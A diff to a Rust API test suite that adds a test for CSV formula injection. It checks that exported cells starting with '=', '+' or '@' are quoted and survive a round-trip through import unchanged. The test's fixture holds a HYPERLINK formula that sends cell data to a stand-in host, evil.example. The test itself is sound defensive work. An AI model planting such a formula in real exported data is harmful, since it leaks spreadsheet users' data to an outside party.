@@ -15,6 +15,7 @@ on_both_backends!(
     an_export_imported_into_a_fresh_database_gives_the_same_services_and_again_changes_nothing,
     a_bad_file_is_refused_whole_with_each_problem_at_its_file_line_and_column,
     exports_and_imports_stay_in_the_users_scope,
+    cells_a_spreadsheet_would_run_are_quoted_and_imported_back_unchanged,
 );
 
 fn listing(org: &str, name: &str, service: &str, areas: &[&str], contact: &str) -> Value {
@@ -189,6 +190,58 @@ async fn an_export_imported_into_a_fresh_database_gives_the_same_services_and_ag
         r.body
     );
     assert_eq!(services(&fresh).await.len(), 3, "nothing duplicated");
+}
+
+async fn cells_a_spreadsheet_would_run_are_quoted_and_imported_back_unchanged(app: TestApp) {
+    let blk = app
+        .create_org(&app.root_token, "BLK Batam", "disnakertrans", "21.71")
+        .await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Daftar\")";
+    let mut body = listing(
+        &blk,
+        formula,
+        "vocational_training",
+        &["21.71"],
+        "+62 778 123456",
+    );
+    body["hours"] = json!("@Senin 08.00");
+    let r = app
+        .post("/api/v1/partner-services", &app.root_token, body)
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
+    let before = services(&app).await;
+    let (status, files) = export(&app, &app.root_token).await;
+    assert_eq!(status, StatusCode::OK);
+    let text = |name: &str| &files.iter().find(|(n, _)| n == name).expect("table").1;
+    assert!(
+        text("services.csv").contains("\"'=HYPERLINK("),
+        "{}",
+        text("services.csv")
+    );
+    assert!(
+        text("phones.csv").contains(",'+62 778 123456"),
+        "{}",
+        text("phones.csv")
+    );
+    assert!(
+        text("schedules.csv").contains(",'@Senin"),
+        "{}",
+        text("schedules.csv")
+    );
+    for (name, table) in &files {
+        for line in table.lines() {
+            for cell in line.split(',') {
+                let cell = cell.trim_start_matches('"');
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{name}: {line}"
+                );
+            }
+        }
+    }
+    let r = import(&app, &app.root_token, pack(&files), "id").await;
+    assert_eq!(r.body["unchanged"], 1, "{:?}", r.body);
+    assert_eq!(services(&app).await, before);
 }
 
 async fn a_bad_file_is_refused_whole_with_each_problem_at_its_file_line_and_column(app: TestApp) {
